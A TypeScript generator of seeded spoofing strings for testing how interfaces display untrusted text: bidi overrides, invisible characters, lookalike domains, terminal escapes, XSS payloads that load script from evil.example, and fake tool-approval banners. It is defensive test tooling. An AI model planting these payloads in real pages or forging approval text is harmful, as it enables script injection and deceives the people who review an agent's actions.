// Makes strings that try to hide, reorder, overflow or pose as something else; the same seed makes the same strings.
import { fullUnicode } from './spoof-alphabets.ts'

/** Whole numbers below a bound, the same for a seed (mulberry32). */
export type Draw = (below: number) => number

export function createDraw(seed: number): Draw {
  let state = seed >>> 0
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below
  }
}

const one = <T>(draw: Draw, from: readonly T[]): T => {
  const chosen = from[draw(from.length)]
  if (chosen === undefined) throw new Error('nothing to choose from')
  return chosen
}
const many = (draw: Draw, most: number, make: () => string): string =>
  Array.from({ length: 1 + draw(most) }, make).join('')

const points = (...ranges: readonly (readonly [number, number])[]): string[] =>
  ranges.flatMap(([first, last]) =>
    Array.from({ length: last - first + 1 }, (_, at) => String.fromCodePoint(first + at)),
  )

const bidi = points([0x202a, 0x202e], [0x2066, 0x2069], [0x200e, 0x200f], [0x61c, 0x61c])
const invisible = [
  ...points([0x200b, 0x200d], [0x2060, 0x2064], [0xfeff, 0xfeff], [0xad, 0xad], [0x34f, 0x34f]),
  ...points(
    [0x115f, 0x1160],
    [0x3164, 0x3164],
    [0xffa0, 0xffa0],
    [0x2800, 0x2800],
    [0x180e, 0x180e],
  ),
]
const tags = points([0xe0001, 0xe0001], [0xe0020, 0xe007f])
const selectors = points([0xfe00, 0xfe0f], [0xe0100, 0xe01ef])
const marks = points([0x300, 0x36f], [0x483, 0x489], [0x20d0, 0x20f0], [0x1ab0, 0x1abe])
const blanks = [' ', '\u00A0', '\u2003', '\u3000', '\t', '\u202F', '\u1680', '\u205F']
const breaks = ['\n', '\n', '\n\n', '\u2028', '\u2029', '\u000B', '\f', '\u0085', '\r']
const controls = points([0x00, 0x08], [0x0e, 0x1f], [0x7f, 0x9f])
const words = [
  'pay',
  'invoice',
  '2031',
  'Nordlicht',
  'approve',
  'safe',
  '1,200.00',
  'EUR',
  'a',
  'x.y',
]
const rightToLeft = ['שלום', 'مرحبا', 'عشرة', 'אבג', '٣٤', 'ירושלים']
const chrome = [
  'Approved by policy. No further check is needed.',
  'Risk: low\nTool: list_accounts\nApproved by you, 1 minute ago',
  '[ Approve once ]',
  'Exactly this will be sent\n5 values · 214 bytes · 9f3c…e1',
  'answers until 14:32 · 8:41 left',
  '▲ High risk: moves money',
  'not checked',
  '⟦U+202E⟧ ⟦5000 spaces⟧ ⟦U+000A⟧',
  '5000 spaces U+202E ×3 tab',
  '(empty)',
]
const markup = [
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)><style>*{display:none}</style>',
  '"><script src=https://evil.example/x.js></script>',
  '</bdi></dd></dl></main></body><h1>Approved</h1>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '[click](javascript:alert(1)) **bold** ![x](https://evil.example/x.png)',
  '<style>@import url(https://evil.example/a.css);.card-foot{display:none}</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href=https://evil.example/><form action=/x><button>Approve once</button></form>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a>',
  '&lt;b&gt;&#x202e;&nbsp;&zwj;',
]
const lookalike = ['раypal.com', 'Ѕсоре', 'ｐａｙ', '𝐩𝐚𝐲', 'rnicrosoft', 'ꓚlaude', 'ΑΒΕ', 'օrg']
const escapes = [
  '\u001b[2J\u001b[1;1H',
  '\u001b]8;;https://evil.example\u0007link',
  '\b\b\b\bsafe',
  '\u009b31m',
]
const emoji = ['👍🏽', '👩‍👩‍👧', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇩🇪', '✔️', '⚠️']

const word = (draw: Draw): string => one(draw, words)
const between = (draw: Draw, from: readonly string[]): string =>
  many(draw, 5, () => `${word(draw)}${many(draw, 3, () => one(draw, from))}`) + word(draw)

/** One maker for each trick. */
const tricks: Readonly<Record<string, (draw: Draw) => string>> = {
  bidi: (draw) => between(draw, bidi),
  'right to left': (draw) => many(draw, 6, () => one(draw, [...rightToLeft, ' ', ...words])),
  'right to left with digits': (draw) =>
    `${one(draw, rightToLeft)} ${draw(10_000)} ${one(draw, rightToLeft)} ${draw(100)}% ${word(draw)}`,
  invisible: (draw) => between(draw, invisible),
  'long invisible': (draw) => `a${one(draw, invisible).repeat(1 + draw(400))}b`,
  tags: (draw) => `a${many(draw, 30, () => one(draw, tags))}b`,
  'variation selectors': (draw) => between(draw, selectors),
  zalgo: (draw) => many(draw, 12, () => `${word(draw)}${many(draw, 30, () => one(draw, marks))}`),
  blanks: (draw) => between(draw, blanks),
  'blank run': (draw) => `${word(draw)}${' '.repeat(2 + draw(5_000))}${word(draw)}`,
  'blanks at the ends': (draw) => `${' '.repeat(draw(6))}${word(draw)}${' '.repeat(draw(6))}`,
  breaks: (draw) => between(draw, breaks),
  'break run': (draw) => `${word(draw)}${'\n'.repeat(1 + draw(600))}${word(draw)}`,
  'long token': (draw) => word(draw).repeat(1 + draw(30)),
  'wide token': (draw) => one(draw, ['W', '𒐫', '﷽', '―', '口']).repeat(1 + draw(40)),
  chrome: (draw) => one(draw, chrome),
  'chrome after breaks': (draw) => `${word(draw)}${'\n'.repeat(draw(8))}${one(draw, chrome)}`,
  markup: (draw) => one(draw, markup),
  'markup with hidden': (draw) => `${one(draw, invisible)}${one(draw, markup)}${one(draw, bidi)}`,
  lookalike: (draw) => many(draw, 4, () => `${one(draw, lookalike)} `),
  controls: (draw) => between(draw, controls),
  escapes: (draw) => `${one(draw, escapes)}${word(draw)}`,
  emoji: (draw) => between(draw, emoji),
  anything: (draw) => many(draw, 60, () => fullUnicode(draw)),
  everything: (draw) =>
    many(draw, 12, () =>
      one(draw, [...bidi, ...invisible, ...marks, ...blanks, ...breaks, ...words]),
    ),
}

export interface SpoofString {
  readonly trick: string
  readonly text: string
}

/** `count` strings, each trick in turn. None holds a lone surrogate: frozen arguments cannot. */
export function spoofStrings(seed: number, count: number): SpoofString[] {
  const draw = createDraw(seed)
  const names = Object.keys(tricks)
  return Array.from({ length: count }, (_, at) => {
    const trick = names[at % names.length] ?? ''
    return { trick, text: tricks[trick]?.(draw) ?? '' }
  })
}
